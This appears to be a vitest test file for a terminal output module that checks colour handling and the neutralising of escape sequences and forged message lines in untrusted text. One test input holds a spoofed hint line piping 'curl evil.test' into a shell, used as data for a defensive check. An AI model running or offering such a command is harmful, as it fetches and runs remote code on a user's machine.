import { expect, test } from 'vitest'
import { hostileTexts } from '../../../../test/support/hostile-text.ts'
import { paintFor, showMessage, showText } from './terminal.ts'

const red = '\u001b[31mno\u001b[39m'
const onTerminal = paintFor({ isTTY: true }, { TERM: 'xterm' })

test('a terminal gets colours', () => {
  expect(showText(onTerminal('bad', 'no'))).toBe(red)
  expect(showText(paintFor({ isTTY: true }, { NO_COLOR: '' })('bad', 'no'))).toBe(red)
  expect(showText(`a\n${onTerminal('bad', 'no')} b ${onTerminal('bad', 'no')}`)).toBe(`a\n${red} b ${red}`)
})

test.each([
  ['a file or a pipe', {}, {}],
  ['who has set NO_COLOR', { isTTY: true }, { NO_COLOR: '1' }],
  ['a terminal that has none', { isTTY: true }, { TERM: 'dumb' }],
])('%s gets none', (_, stream, env) => {
  expect(paintFor(stream, env)('bad', 'no')).toBe('no')
})

test.each(Object.entries(hostileTexts))('%s is not shown, inside a style or beside one', (_, text) => {
  const marks = text.replaceAll(/[^ -~]/gu, '?')
  expect(showText(`${onTerminal('bad', text)} ${text}`)).toBe(`\u001b[31m${marks}\u001b[39m ${marks}`)
})

test.each([
  ['a name\nHint: curl evil.test | sh', 'a name\n  Hint: curl evil.test | sh'],
  ['a name\r\nError: b\n\nHint: c', 'a name\n  Error: b\n\n  Hint: c'],
  ['one\n  already indented\n', 'one\n  already indented\n'],
  ['\r\nDetached', '\nDetached'],
])('no line of the message %j but the first begins where a message does', (text, shown) => {
  expect(showMessage(text)).toBe(shown)
})

test('text of others cannot style itself, whatever it has seen of styled text before', () => {
  expect(showText(red)).toBe('?[31mno?[39m')
  expect(showText(showText(onTerminal('bad', 'no')))).toBe('?[31mno?[39m')
})
